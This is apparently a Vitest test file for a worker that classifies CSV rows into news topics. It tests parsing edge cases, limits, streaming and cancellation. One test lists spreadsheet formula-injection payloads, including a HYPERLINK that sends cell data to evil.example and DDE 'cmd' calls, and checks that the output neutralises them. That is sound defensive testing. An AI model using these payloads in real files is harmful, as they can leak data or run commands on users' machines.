import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { BatchProgress, BatchRows, BatchSource } from '../../src/core/contract/batch-types';
import { createRandom } from '../../src/core/explain/random';
import { previewCsv, runCsvBatch, type CsvBatchDeps } from '../../workers/csv-batch';
import type { ByteSource } from '../../workers/text-chunks';
import { failureOf } from './helpers/error-code';

const LABELS = ['business', 'entertainment', 'politics', 'sport', 'tech'];
const OUTPUT_EXTRA = ['predicted_label', ...LABELS.map((label) => `p_${label}`), 'note'];

/** A stand-in model: the same text always gets the same probabilities, whatever batch it is in. */
function fakeProbabilities(text: string): Float32Array {
  let hash = 2166136261;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 16777619);
  const p = new Float32Array(LABELS.length).fill(0.1);
  p[(hash >>> 0) % LABELS.length] = 0.6;
  return p;
}

const fakeTop = (text: string) => LABELS[fakeProbabilities(text).indexOf(0.6000000238418579)];

function deps(overrides: Partial<CsvBatchDeps> = {}): CsvBatchDeps {
  return { labels: LABELS, classify: async (texts) => texts.map(fakeProbabilities), ...overrides };
}

const file = (content: string | Uint8Array<ArrayBuffer>, name = 'input.csv'): BatchSource => ({ kind: 'file', file: new Blob([content]), name });


const parseCsv = (text: string, delimiter = ',') => Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data;

/** 2,000 rows with commas, quotes, line breaks and accents in the texts, labels in mixed case, and a few empty texts. */
function generateRows(count: number, seed: number): string[][] {
  const random = createRandom(seed);
  const words = ['market', 'film', 'election', 'match', 'chip', 'shares', 'actor', '"quoted"', 'goal,', 'café', 'naïve', 'line\nbreak', 'vote;'];
  const rows: string[][] = [];
  for (let i = 0; i < count; i++) {
    const length = 3 + Math.floor(random() * 40);
    const body = i % 97 === 5 ? '' : Array.from({ length }, () => words[Math.floor(random() * words.length)]).join(' ');
    const predicted = body ? fakeTop(body) : LABELS[i % LABELS.length];
    const truth = random() < 0.7 ? predicted : LABELS[Math.floor(random() * LABELS.length)];
    const cased = i % 3 === 0 ? truth.toUpperCase() : i % 3 === 1 ? ` ${truth} ` : truth;
    rows.push([String(i + 1), `Title ${i + 1}`, body, cased, (random() * 10).toFixed(2)]);
  }
  return rows;
}

describe('a 2,000-row CSV through the batch', () => {
  it('gives 2,000 data rows with the documented columns, and metrics equal to a direct computation', async () => {
    const header = ['id', 'title', 'body', 'label', 'score'];
    const rows = generateRows(2000, 11);
    const input = Papa.unparse([header, ...rows]);
    const progress: BatchProgress[] = [];
    const batchSizes: number[] = [];
    const source = file(input, 'news.csv');

    const preview = await previewCsv(source, { labels: LABELS });
    expect(preview).toMatchObject({ columns: header, textColumn: 'body', labelColumn: 'label', delimiter: ',', complete: false });
    expect(preview.rows).toHaveLength(20);
    expect(Math.abs(preview.estimatedRows - 2000)).toBeLessThan(100);

    const result = await runCsvBatch(
      source,
      { textColumn: 'body', labelColumn: 'label' },
      deps({
        classify: async (texts) => {
          batchSizes.push(texts.length);
          return texts.map(fakeProbabilities);
        },
        onProgress: (p) => progress.push(p),
      }),
    );

    const empty = rows.filter((row) => row[2] === '').length;
    expect(empty).toBeGreaterThan(10);
    expect(result.report).toMatchObject({ rows: 2000, classified: 2000 - empty });
    expect(result.report.emptyText.count).toBe(empty);
    expect(Math.max(...batchSizes)).toBeLessThanOrEqual(32);
    expect(batchSizes.reduce((a, b) => a + b, 0)).toBe(2000 - empty);
    expect(result.fileName).toBe('news-classified.csv');
    expect(result.columns).toEqual([...header, ...OUTPUT_EXTRA]);

    const [outHeader, ...out] = parseCsv(await result.csv.text());
    expect(outHeader).toEqual([...header, ...OUTPUT_EXTRA]);
    expect(out).toHaveLength(2000);
    out.forEach((cells, i) => {
      expect(cells.slice(0, 5)).toEqual(rows[i]);
      const body = rows[i][2];
      if (body === '') {
        expect(cells.slice(5)).toEqual(['', '', '', '', '', '', 'no text: not classified']);
        return;
      }
      expect(cells[5]).toBe(fakeTop(body));
      const p = fakeProbabilities(body);
      cells.slice(6, 11).forEach((value, k) => expect(Number(value)).toBeCloseTo(p[k], 6));
      expect(cells[11]).toBe('');
    });

    // Metrics straight from the downloaded file: true label against predicted_label.
    const scored = out.filter((cells) => cells[5] !== '').map((cells) => ({ truth: cells[3].trim().toLowerCase(), predicted: cells[5] }));
    const accuracy = scored.filter((r) => r.truth === r.predicted).length / scored.length;
    const perLabel = LABELS.map((label) => {
      const tp = scored.filter((r) => r.truth === label && r.predicted === label).length;
      const predicted = scored.filter((r) => r.predicted === label).length;
      const support = scored.filter((r) => r.truth === label).length;
      const precision = predicted ? tp / predicted : 0;
      const recall = support ? tp / support : 0;
      return { precision, recall, f1: precision + recall ? (2 * precision * recall) / (precision + recall) : 0, support };
    });
    const metrics = result.metrics!;
    expect(metrics.count).toBe(scored.length);
    expect(metrics.accuracy).toBeCloseTo(accuracy, 12);
    expect(metrics.accuracy).toBeGreaterThan(0.6);
    expect(metrics.macroF1).toBeCloseTo(perLabel.reduce((sum, m) => sum + m.f1, 0) / LABELS.length, 12);
    metrics.perClass.forEach((m, i) => {
      expect(m.precision).toBeCloseTo(perLabel[i].precision, 12);
      expect(m.recall).toBeCloseTo(perLabel[i].recall, 12);
      expect(m.support).toBe(perLabel[i].support);
    });
    expect(metrics.confusionMatrix.flat().reduce((a, b) => a + b, 0)).toBe(scored.length);

    const classifying = progress.filter((p) => p.stage === 'classifying');
    expect(progress[0].stage).toBe('reading');
    expect(classifying.at(-1)).toEqual({ phase: 'batch', stage: 'classifying', loaded: 2000, total: 2000, progress: 1 });
    classifying.slice(1).forEach((p, i) => expect(p.loaded).toBeGreaterThanOrEqual(classifying[i].loaded));
  });
});

describe('awkward CSV files', () => {
  it('strips a BOM, detects ";" and CRLF, keeps quoted newlines, and writes the results the same way', async () => {
    const input = '\ufeffid;text;label\r\n1;"first line\r\nsecond; line";Sport\r\n2;"say ""hi""";tech\r\n';
    const preview = await previewCsv(file(input), { labels: LABELS });
    expect(preview).toMatchObject({ columns: ['id', 'text', 'label'], delimiter: ';', hasBom: true, textColumn: 'text', labelColumn: 'label' });
    expect(preview.rows[0][1]).toBe('first line\r\nsecond; line');

    const result = await runCsvBatch(file(input), { textColumn: 'text', labelColumn: 'label' }, deps());
    expect(result.delimiter).toBe(';');
    const bytes = new Uint8Array(await result.csv.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const out = parseCsv(await result.csv.text(), ';');
    expect(out[1].slice(0, 3)).toEqual(['1', 'first line\r\nsecond; line', 'Sport']);
    expect(out[2][1]).toBe('say "hi"');
    expect(result.metrics?.count).toBe(2);
  });

  it('writes no live formula: hostile cells, headers and labels get a leading quote, probabilities stay numbers', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
      '=1+1',
    ];
    const labels = ['=bad', '+label', 'sport'];
    const rows = Array.from({ length: 56 }, (_, i) => [hostile[i % hostile.length], `${hostile[(i + 3) % hostile.length]} text ${i}`, labels[i % labels.length]]);
    const input = Papa.unparse([['=id', '@text', '-label'], ...rows]);
    const result = await runCsvBatch(
      file(input),
      { textColumn: '@text', labelColumn: '-label' },
      { labels, classify: async (texts) => texts.map((_, i) => Float32Array.of(i % 2 ? 0.7 : 0.2, 0.2, i % 2 ? 0.1 : 0.6)) },
    );
    const out = parseCsv(await result.csv.text());
    let cells = 0;
    for (const row of out) {
      for (const cell of row) {
        cells++;
        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(cells).toBeGreaterThan(50 * 3);
    expect(out[0].slice(0, 3)).toEqual(["'=id", "'@text", "'-label"]);
    expect(out[1][0]).toBe(`'${hostile[0]}`);
    expect(out.slice(1).map((row) => row[3])).toContain("'=bad");
    const probabilities = out.slice(1).flatMap((row) => row.slice(4, 7));
    expect(probabilities.every((p) => /^\d(\.\d+)?$/.test(p))).toBe(true);
  });

  it('handles ragged rows and reports them by spreadsheet row number', async () => {
    const input = 'id,text,label\n1,short row\n2,fine,sport\n3,too,many,cells,here\n';
    const result = await runCsvBatch(file(input), { textColumn: 'text' }, deps());
    expect(result.report.shortRows).toEqual({ count: 1, rows: [2] });
    expect(result.report.longRows).toEqual({ count: 1, rows: [4] });
    const out = parseCsv(await result.csv.text());
    expect(out.every((cells) => cells.length === 3 + OUTPUT_EXTRA.length)).toBe(true);
    expect(out[1].slice(0, 3)).toEqual(['1', 'short row', '']);
    expect(out[1].at(-1)).toBe('1 missing cell left empty');
    expect(out[3].slice(0, 3)).toEqual(['3', 'too', 'many']);
    expect(out[3].at(-1)).toBe('2 extra cells left out');
    expect(result.notes).toContain('More cells than the header, the extra cells left out of the results: 1 row (row 4).');
  });

  it('says when no column holds text, when none is chosen, and when the chosen one is empty', async () => {
    const numbers = file('id,amount\n1,20.5\n2,13\n');
    const preview = await previewCsv(numbers);
    expect(preview.textColumn).toBeUndefined();
    expect(preview.notes.join(' ')).toContain('No column holds words');
    expect(await failureOf(runCsvBatch(numbers, { textColumn: '' }, deps()))).toMatchObject({ code: 'CSV_INVALID', message: expect.stringContaining('Choose the column') });
    expect(await failureOf(runCsvBatch(numbers, { textColumn: 'text' }, deps()))).toMatchObject({ message: expect.stringContaining('no column "text"') });
    expect(await failureOf(runCsvBatch(file('id,text\n1,\n2, \n'), { textColumn: 'text' }, deps()))).toMatchObject({
      code: 'CSV_INVALID',
      message: 'Column "text" is empty in every row: choose the column that holds the texts.',
    });
  });

  it('refuses binary content with a message that says what it is', async () => {
    const random = createRandom(3);
    const noise = Uint8Array.from({ length: 4096 }, () => Math.floor(random() * 256)).map((b) => (b === 0 ? 1 : b));
    expect(await failureOf(previewCsv(file(noise, 'data.csv')))).toMatchObject({ code: 'CSV_INVALID', message: expect.stringContaining('does not read as text') });
    expect(await failureOf(previewCsv(file('id,text\n1,ok\u0000\n')))).toMatchObject({ message: expect.stringContaining('NUL byte') });
    const xlsx = Uint8Array.of(0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0);
    expect(await failureOf(runCsvBatch(file(xlsx, 'book.xlsx'), { textColumn: 'text' }, deps()))).toMatchObject({
      message: expect.stringContaining('book.xlsx is a ZIP archive, such as an Excel workbook'),
    });
  });

  it('refuses empty files and files with only a header', async () => {
    expect(await failureOf(previewCsv(file('')))).toMatchObject({ code: 'CSV_INVALID', message: expect.stringContaining('is empty') });
    expect(await failureOf(previewCsv(file('\n \n\r\n')))).toMatchObject({ message: expect.stringContaining('is empty') });
    expect(await failureOf(previewCsv(file('id,text\n')))).toMatchObject({ message: 'input.csv has a header row (id, text) but no data rows.' });
    expect(await failureOf(runCsvBatch(file('id,text\n\n'), { textColumn: 'text' }, deps()))).toMatchObject({ message: expect.stringContaining('no data rows') });
  });

  it('reads pasted lines as one text per line, and pasted CSV like a file', async () => {
    const lines: BatchSource = { kind: 'text', text: 'Shares fell, again.\n\nThe match ended 2-1\n', format: 'lines' };
    const preview = await previewCsv(lines);
    expect(preview).toMatchObject({ columns: ['text'], textColumn: 'text', rows: [['Shares fell, again.'], ['The match ended 2-1']], rowNumbers: [1, 3] });
    const result = await runCsvBatch(lines, { textColumn: 'text' }, deps());
    expect(result.fileName).toBe('pasted-text-classified.csv');
    const out = parseCsv(await result.csv.text());
    expect(out.map((cells) => cells.slice(0, 2))).toEqual([
      ['text', 'predicted_label'],
      ['Shares fell, again.', fakeTop('Shares fell, again.')],
      ['The match ended 2-1', fakeTop('The match ended 2-1')],
    ]);
    const pastedCsv = await previewCsv({ kind: 'text', text: 'text\ttopic\nA film review\tentertainment\n', format: 'csv' }, { labels: LABELS });
    expect(pastedCsv).toMatchObject({ delimiter: '\t', textColumn: 'text', labelColumn: 'topic' });
  });
});

describe('cancelling a batch', () => {
  it('stops between batches with CANCELLED and makes no further model calls', async () => {
    const controller = new AbortController();
    let calls = 0;
    const input = Papa.unparse([['text'], ...Array.from({ length: 500 }, (_, i) => [`text number ${i}`])]);
    const outcome = await failureOf(
      runCsvBatch(
        file(input),
        { textColumn: 'text' },
        deps({
          signal: controller.signal,
          batchSize: 10,
          classify: async (texts) => {
            if (++calls === 3) controller.abort();
            return texts.map(fakeProbabilities);
          },
        }),
      ),
    );
    // Quick calls double from BATCH_PACING.firstBatch (4) up to batchSize: 4 + 8 rows were done when the third call was cancelled.
    expect(outcome).toEqual({ code: 'CANCELLED', message: 'The batch was cancelled after 12 of 500 rows.' });
    expect(calls).toBe(3);
  });

  it('does not wait for a model call that never returns', async () => {
    const controller = new AbortController();
    const pending = runCsvBatch(
      file('text\nhello\n'),
      { textColumn: 'text' },
      deps({
        signal: controller.signal,
        classify: () => {
          setTimeout(() => controller.abort(), 5);
          return new Promise<Float32Array[]>(() => undefined);
        },
      }),
    );
    expect(await failureOf(pending)).toMatchObject({ code: 'CANCELLED' });
  });
});

/** A Blob that logs every read, to see how the input is read. */
function loggedBlob(blob: Blob, log: string[]): ByteSource {
  return {
    size: blob.size,
    slice(start, end) {
      log.push(`read ${end - start}`);
      return blob.slice(start, end);
    },
  };
}

describe('large inputs', () => {
  it('streams a 24 MB file in 1 MB reads, classifying while it is still being read', async () => {
    const body = 'A long article about markets and politics. '.repeat(47);
    const text = ['id,text', ...Array.from({ length: 12_000 }, (_, i) => `${i},${body}${i}`)].join('\n');
    const blob = new Blob([text]);
    expect(blob.size).toBeGreaterThan(24_000_000);
    const log: string[] = [];
    const result = await runCsvBatch(
      { kind: 'file', file: loggedBlob(blob, log) as unknown as Blob, name: 'big.csv' },
      { textColumn: 'text' },
      deps({
        classify: async (texts) => {
          log.push('classify');
          return texts.map(fakeProbabilities);
        },
      }),
    );
    expect(result.report).toMatchObject({ rows: 12_000, classified: 12_000 });
    const reads = log.filter((entry) => entry.startsWith('read')).map((entry) => Number(entry.slice(5)));
    expect(Math.max(...reads)).toBeLessThanOrEqual(1024 * 1024);
    const lastRead = log.map((entry) => entry.startsWith('read')).lastIndexOf(true);
    expect(log.indexOf('classify')).toBeLessThan(lastRead);
    const lines = (await result.csv.text()).split('\r\n');
    expect(lines).toHaveLength(12_002);
    expect(lines[12_000].startsWith('11999,')).toBe(true);

    // The preview reads the start only: enough chunks of 256 KB for 200 rows, and one more of look-ahead.
    const previewLog: string[] = [];
    const preview = await previewCsv({ kind: 'file', file: loggedBlob(blob, previewLog) as unknown as Blob, name: 'big.csv' });
    expect(previewLog.reduce((sum, entry) => sum + Number(entry.slice(5)), 0)).toBeLessThanOrEqual(1024 * 1024);
    expect(preview).toMatchObject({ complete: false, textColumn: 'text' });
    expect(Math.abs(preview.estimatedRows - 12_000)).toBeLessThan(600);
  });

  it('refuses more rows than the limit before any model call, with the numbers', async () => {
    const text = ['id,text', ...Array.from({ length: 400_000 }, (_, i) => `${i},t${i}`)].join('\n');
    let calls = 0;
    const outcome = await failureOf(runCsvBatch(file(text, 'many.csv'), { textColumn: 'text' }, deps({ classify: async () => (calls++, []) })));
    expect(outcome.code).toBe('CSV_INVALID');
    expect(outcome.message).toMatch(/^many\.csv has more than 100,000 data rows \(about \d{3},\d{3} in all\); batch mode classifies up to 100,000 rows/);
    expect(calls).toBe(0);
    const preview = await previewCsv(file(text, 'many.csv'));
    expect(preview.notes[0]).toMatch(/^This input has about \d{3},\d{3} rows; batch mode classifies up to 100,000 at a time/);
  });

  it('refuses a file over the size limit without reading it', async () => {
    const log: string[] = [];
    const huge: ByteSource = {
      size: 300 * 1024 * 1024,
      slice: (start, end) => {
        log.push(`read ${start}-${end}`);
        return new Blob([new Uint8Array(end - start).fill(0x61)]);
      },
    };
    const outcome = await failureOf(previewCsv({ kind: 'file', file: huge as unknown as Blob, name: 'huge.csv' }));
    expect(outcome).toEqual({ code: 'CSV_INVALID', message: 'huge.csv is 300 MB; batch mode reads up to 256 MB at a time. Split it into smaller files.' });
    expect(log).toEqual(['read 0-8']);
  });
});

describe('rows that outlive the batch', () => {
  const header = ['id', 'title', 'body', 'label', 'score'];
  const rows = generateRows(600, 5);
  const input = Papa.unparse([header, ...rows]);

  it('hands over the results file a part at a time; the parts are the whole file', async () => {
    const parts: BatchRows[] = [];
    const result = await runCsvBatch(file(input), { textColumn: 'body' }, deps({ onRows: (part) => void parts.push(part) }));
    expect(parts[0]).toMatchObject({ lines: '', done: 0 });
    expect(parts.at(-1)?.done).toBe(600);
    expect(parts.map((part) => part.done)).toEqual([...parts.map((part) => part.done)].sort((a, b) => a - b));
    expect((parts[0].header ?? '') + parts.map((part) => part.lines).join('')).toBe(await result.csv.text());
  });

  it('keeps the rows finished before a cancel, and a resume after them completes the same file', async () => {
    const whole = await (await runCsvBatch(file(input), { textColumn: 'body' }, deps())).csv.text();
    const abort = new AbortController();
    const parts: BatchRows[] = [];
    const stopped = await failureOf(
      runCsvBatch(
        file(input),
        { textColumn: 'body' },
        deps({
          signal: abort.signal,
          onRows: (part) => {
            parts.push(part);
            if (part.done >= 200) abort.abort();
          },
        }),
      ),
    );
    expect(stopped.code).toBe('CANCELLED');
    const done = parts.at(-1)!.done;
    expect(done).toBeGreaterThanOrEqual(200);
    expect(done).toBeLessThan(600);
    const resumed: BatchRows[] = [];
    const result = await runCsvBatch(file(input), { textColumn: 'body', startRow: done }, deps({ onRows: (part) => void resumed.push(part) }));
    expect(resumed[0]).toMatchObject({ lines: '', done });
    expect(result.report.rows).toBe(600 - done);
    const assembled = (parts[0].header ?? '') + [...parts, ...resumed].map((part) => part.lines).join('');
    expect(assembled).toBe(whole);
  });

  it('refuses a start row outside the input', async () => {
    for (const startRow of [-1, 1.5, 600, Number.NaN]) {
      expect(await failureOf(runCsvBatch(file(input), { textColumn: 'body', startRow }, deps()))).toMatchObject({ code: 'BAD_INPUT' });
    }
  });
});
